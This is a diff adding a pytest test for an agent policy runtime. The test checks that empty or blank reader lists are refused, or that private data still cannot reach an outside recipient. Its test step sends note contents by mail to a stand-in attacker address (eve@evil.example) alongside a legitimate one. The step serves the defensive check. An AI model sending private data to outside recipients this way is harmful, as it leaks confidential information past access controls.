@@ -324,3 +324,21 @@ def test_a_batch_naming_one_handle_in_every_item_cannot_multiply_its_bytes():
         substituted = sum(len(r["args"]["body"]) for r in allowed)
         assert len(reply["batch"]) == 200
         assert substituted <= 1 << 20, f"{len(allowed)} items allowed, {substituted} bytes substituted"
+
+
+@pytest.mark.parametrize("readers", [[], [""], ["*@corp.example", ""]])
+def test_a_reader_list_that_admits_nobody_or_a_non_name_is_not_fail_open(readers):
+    """``readers: []`` reads as "nobody" but becomes public (``self.readers or "public"``), and an
+    empty entry admits '' — which is what ``destination`` returns for a value that is not one name,
+    so the two-recipient string the previous commit refuses is admitted again. Either the policy
+    is refused, or private data does not reach an outside recipient."""
+    from runtime.errors import ConfigError
+
+    with PolicyHarness(tools=TOOLS) as h:
+        try:
+            h.add_agent(policy("a", tools={"notes.read": {"effect": "read", "output": {"readers": readers}}}))
+        except ConfigError:
+            return
+        assert h.call("a", "notes.read").allowed
+        d = h.call("a", "mail.send", {"to": "eve@evil.example,bob@corp.example", "body": "launch date"})
+        assert d.code == "FLOW_DENIED", d
